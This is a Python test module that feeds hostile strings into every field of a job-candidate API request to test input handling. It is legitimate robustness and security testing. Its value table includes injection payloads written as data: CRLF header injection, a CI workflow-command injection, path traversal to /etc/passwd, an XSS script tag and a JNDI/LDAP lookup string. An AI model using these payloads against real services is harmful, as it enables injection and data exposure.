"""Hostile strings in every string field of the body: lone surrogates, NULs, zero-width
and bidi controls, terminal escapes, header injection, case-mapping traps (``İ``, ``ß``),
non-ASCII digits, 1,000 combining marks, and seeded random mixtures of them."""

from __future__ import annotations

import itertools
from typing import Any

from .base import QID, Case, api_case, example, pick_quick, question, rng

FIELDS: tuple[tuple[Any, ...], ...] = (
    ("candidate", "first_name"),
    ("candidate", "last_name"),
    ("candidate", "email_address"),
    ("candidate", "company"),
    ("candidate", "title"),
    ("candidate", "phone_number"),
    ("candidate", "additional_email_addresses", 0, "email_address"),
    ("candidate", "additional_email_addresses", 0, "type"),
    ("candidate", "additional_phone_numbers", 0, "phone_number"),
    ("candidate", "location", "city"),
    ("candidate", "location", "country"),
    ("candidate", "location", "state"),
    ("candidate", "location", "street_1"),
    ("candidate", "location", "zip_code"),
    ("candidate", "gender"),
    ("candidate", "availability_date"),
    ("candidate", "salary_expectations", "period"),
    ("candidate", "social_links", 0, "url"),
    ("attachments", 0, "name"),
    ("attachments", 0, "content_type"),
    ("attachments", 0, "data"),
    ("attachments", 0, "type"),
    ("attachments", 1, "data_url"),
    ("source", "name"),
    ("source", "unified_key"),
    ("sourced_by", "user_id"),
    ("gdpr_consent", "expires_at"),
    ("remote_fields", "workday", "Candidate_Data", "Name_Detail_Data", "Middle_Name"),
    ("remote_fields", "jobylon", "application", "message"),
    ("remote_fields", "anything", "free"),
    ("stage_id",),
    ("screening_question_answers", 0, "question_id"),
    ("screening_question_answers", 0, "answer"),
    ("screening_question_answers", 1, "answer", "name"),
)
PERSONAL = {
    "first_name",
    "last_name",
    "email_address",
    "company",
    "title",
    "phone_number",
    "city",
    "state",
    "street_1",
    "zip_code",
    "url",
    "name",
    "answer",
    "message",
    "Middle_Name",
    "free",
}

FIXED: dict[str, str] = {
    "surrogate": "\ud800",
    "low_surrogate": "\udfff",
    "surrogate_inside": "Ada\ud800Lovelace",
    "reversed_pair": "\udc00\ud800",
    "nul": "\x00",
    "nul_inside": "Ada\x00Lovelace",
    "zero_width": "\u200b",
    "zero_width_inside": "ada\u200b@example.com",
    "rtl_override": "\u202eecalevoL adA",
    "isolates": "\u2066Ada\u2069",
    "bom": "\ufeffAda",
    "space": " ",
    "empty": "",
    "whitespace": "\t\n\r\u00a0\u2028\u3000",
    "ansi": "\x1b[31mAda\x1b[0m",
    "crlf_injection": "Ada\r\nSet-Cookie: x=1",
    "workflow_command": "\n::error file=x::pwned",
    "emoji": "👩‍💻🏳️‍🌈",
    "tag_chars": "\U000e0041\U000e0064\U000e0061",
    "nfd": "Ade\u0301le",
    "ligature": "ﬁnance",
    "fullwidth": "Ａｄａ＠ｅｘａｍｐｌｅ．ｃｏｍ",
    "dotted_i": "İstanbul",
    "sharp_s": "STRAßE",
    "noncharacter": "\ufffe\uffff\U0010ffff",
    "arabic_digits": "٢٠٢١-٠١-٠١",
    "fullwidth_digits": "２０２１-０１-０１",
    "combining_1000": "a" + "\u0301" * 1000,
    "long_ascii": "Ada Lovelace " * 40,
    "path_traversal": "../../../etc/passwd",
    "html": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://example.com/a}",
    "percent": "%00%2F%ZZ",
    "quote_mix": "'\"`\\",
    "json_in_string": '{"candidate": null}',
    "c1_controls": "\x85\x9b\x9c",
    "replacement": "\ufffd\ufffd",
    "private_use": "\ue000\U000f0000",
    "rtl_text": "עדה לאבלייס",
    "line_sep_email": "ada@exa\u2028mple.com",
}
_ALPHABET = "abcXYZ019@.-_:/ %+~é\u0301😀\x00\x1b\u202e\u200b\ufeff\ud800\udc00\n\tİß٣２\ufffd"


def put(body: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    """``body`` with ``value`` at ``path`` (containers made on the way)."""
    node: Any = body
    for here, nxt in itertools.pairwise(path):
        if isinstance(node, list):
            while len(node) <= here:
                node.append({})
            if not isinstance(node[here], (dict, list)):
                node[here] = {}
            node = node[here]
            continue
        if not isinstance(node.get(here), (dict, list)):
            node[here] = [] if isinstance(nxt, int) else {}
        node = node[here]
    last = path[-1]
    if isinstance(node, list):
        while len(node) <= last:
            node.append({})
    node[last] = value
    return body


def _body(path: tuple[Any, ...], value: str) -> dict[str, Any]:
    body = example()
    body["attachments"].append(
        {"name": "b.pdf", "type": "OTHER", "data_url": "https://example.com/b.pdf"}
    )
    body["screening_question_answers"] = [
        {"question_id": QID, "answer": "x"},
        {
            "question_id": "3phFBNXRweGnDmsU9o2vdPuQ",
            "answer": {"name": "a.txt", "data": "QUFB", "content_type": "text/plain"},
        },
    ]
    return put(body, path, value)


_QUESTIONS = [
    question(QID, {"type": "TEXT", "max_length": 100, "display_type": "EMAIL"}),
    question("3phFBNXRweGnDmsU9o2vdPuQ", {"type": "FILE", "accepted_mime_types": ["text/*"]}),
]


def cases() -> list[Case]:
    r = rng("strings")
    values = dict(FIXED)
    for i in range(16):
        values[f"random{i}"] = "".join(r.choice(_ALPHABET) for _ in range(r.randint(1, 120)))
    out: list[Case] = []
    for field in FIELDS:
        fname = "/".join(map(str, field))
        personal = field[-1] in PERSONAL
        for vname, value in values.items():
            with_q = r.random() < 0.3

            def build(
                field: Any = field,
                value: str = value,
                personal: bool = personal,
                with_q: bool = with_q,
            ) -> dict[str, Any]:
                inputs: dict[str, Any] = {"body": _body(field, value)}
                if personal:
                    inputs["personal"] = [value]
                if with_q:
                    inputs["questions"] = _QUESTIONS
                return inputs

            kinds = dict.fromkeys(["check", r.choice(["check", "prepare", "python", "request"])])
            core = vname in ("surrogate_inside", "rtl_override", "long_ascii") and field[-1] in (
                "first_name",
                "answer",
                "email_address",
            )
            out += api_case(f"{fname}/{vname}", build, kinds=kinds, quick=core)
    return pick_quick(out, 60)
